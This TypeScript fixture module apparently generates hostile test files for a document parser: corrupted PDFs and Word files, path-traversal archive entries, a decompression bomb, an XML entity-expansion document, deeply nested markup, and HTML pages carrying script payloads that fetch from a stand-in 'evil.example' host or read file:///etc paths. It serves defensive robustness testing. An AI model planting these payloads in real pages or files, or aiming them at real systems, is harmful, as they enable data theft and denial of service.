import { deflateSync } from 'node:zlib';
import { docxOf, pdfOf, wordParagraph } from './files.js';
import { controls, garbage, times, utf8 } from './hostile-text.js';
import { damaged, randomOf } from './random.js';

export type NamedFile = readonly [name: string, bytes: Uint8Array];

const random = randomOf(5);
const pick = <T>(from: readonly T[]) => from[Math.floor(random() * from.length)] as T;

const pdf = pdfOf(
  times(30, (at) => ({ text: `Line ${at} of text`, size: at % 7 ? 10 : 14, gap: 14 })),
);
const docx = docxOf(
  times(30, (at) => wordParagraph(`Paragraph ${at}`, at % 7 ? undefined : 'Heading1')).join(''),
);
const page = `<h1>T</h1>${times(20, (at) => `<p onclick="x()">P${at}</p><script>for(;;){}</script>`).join('')}`;

/** Whoever finds this word in a document has read what a visitor of the page would not see. */
export const SCRIPTED = 'stolen';
const SCRIPTS = [
  `<script>fetch("https://evil.example/${SCRIPTED}")</script>`,
  `<script src="https://evil.example/${SCRIPTED}.js"></script>`,
  `<img src=x onerror="alert('${SCRIPTED}')">`,
  `<svg onload="alert('${SCRIPTED}')"><text>${SCRIPTED}</text></svg>`,
  `<iframe src="file:///etc/${SCRIPTED}"></iframe>`,
  `<object data="file:///etc/${SCRIPTED}">${SCRIPTED}</object>`,
  `<style>@import "https://evil.example/${SCRIPTED}.css";</style>`,
  `<link rel=stylesheet href="https://evil.example/${SCRIPTED}.css">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/${SCRIPTED}">`,
  `<a href="javascript:${SCRIPTED}()">here</a>`,
  `<p hidden>${SCRIPTED}</p>`,
  `<!-- ${SCRIPTED} -->`,
  `<template>${SCRIPTED}</template>`,
];

const scriptedPage = (at: number): NamedFile => [
  `a${at}.html`,
  utf8(`<h1>T</h1><p>Before.</p>${times(1 + (at % 4), () => pick(SCRIPTS)).join('')}<p>After.</p>`),
];

/** Objects that point at each other, at nothing or at themselves. */
function tangledPdf(): NamedFile {
  const values = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9>>'];
  const strange = ['3 0 R', '<</Kids[1 0 R]/Count -1>>', '[[[[', '<</Length 99999>>stream', '9e99'];
  const objects = times(6, (at) => (random() < 0.5 ? values[at % 2] : pick(strange)));
  const body = objects.map((value, at) => `${at + 1} 0 obj${value}endobj`).join('\n');
  return ['a.pdf', utf8(`%PDF-1.4\n${body}\ntrailer<</Root 1 0 R/Prev 9/Size ${pick([0, 9e9])}>>`)];
}

/** An archive inside a Word document: many zeros, or names that lead elsewhere. */
function trappedDocx(at: number): NamedFile {
  const names = ['../../evil.xml', '/etc/evil', 'word/../../evil', 'C:\\evil', '..\\evil', 'a\0b'];
  const trap =
    at % 10 === 0
      ? { zeros: new Uint8Array((65 + at) * 1024 * 1024) }
      : { [pick(names)]: garbage(50, random) };
  return ['a.docx', docxOf(wordParagraph('Text'), trap)];
}

function flateBomb(): Uint8Array {
  const content = deflateSync(Buffer.alloc(100 * 1024 * 1024, 'BT (x) Tj ET '));
  const head = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n4 0 obj<</Length ${content.length}/Filter/FlateDecode>>stream\n`;
  return Buffer.concat([utf8(head), content, utf8('\nendstream endobj\ntrailer<</Root 1 0 R>>')]);
}

/** Files by what is wrong with them; the same in every run. */
export const HOSTILE_FILES: Record<string, readonly NamedFile[]> = {
  'damaged PDF': times(200, () => ['a.pdf', damaged(pdf, random)]),
  'tangled PDF': times(50, tangledPdf),
  'damaged Word documents': times(200, () => ['a.docx', damaged(docx, random)]),
  'Word documents with traps': times(30, trappedDocx),
  'damaged web pages': times(80, () => ['a.html', damaged(utf8(page), random)]),
  'web pages with scripts': times(80, scriptedPage),
  'control characters': times(60, (at) => [
    `a${['.md', '.txt', '.html'][at % 3]}`,
    utf8(controls(2_000, random)),
  ]),
  'random bytes': times(40, (at) => [
    `a${['.md', '.pdf', '.docx', '.html'][at % 4]}`,
    garbage(4_000, random),
  ]),
  'what is meant to blow a parser up': [
    ['deep.html', utf8('<div>'.repeat(200_000))],
    ['lists.html', utf8('<ul><li>'.repeat(50_000))],
    ['tables.html', utf8('<table><tr><td>'.repeat(5_000))],
    ['open.html', utf8('<a '.repeat(500_000))],
    ['entities.html', utf8('&amp'.repeat(500_000))],
    ['quotes.md', utf8('>'.repeat(50_000))],
    ['brackets.md', utf8('['.repeat(100_000))],
    ['stars.md', utf8('**a '.repeat(100_000))],
    ['ticks.md', utf8(times(2_000, (at) => '`'.repeat(at)).join(' '))],
    ['lists.md', utf8(times(2_000, (at) => `${' '.repeat(2 * at)}- x`).join('\n'))],
    ['long.txt', utf8('x'.repeat(8_000_000))],
    ['many.docx', docxOf('', Object.fromEntries(times(3_000, (at) => [`f${at}`, utf8('x')])))],
    [
      'entities.docx',
      docxOf(`<!DOCTYPE x [<!ENTITY a "${'b'.repeat(1_000)}">]>${'&a;'.repeat(10_000)}`),
    ],
    ['deep.docx', docxOf('<w:p>'.repeat(50_000))],
    ['bomb.pdf', flateBomb()],
  ],
};
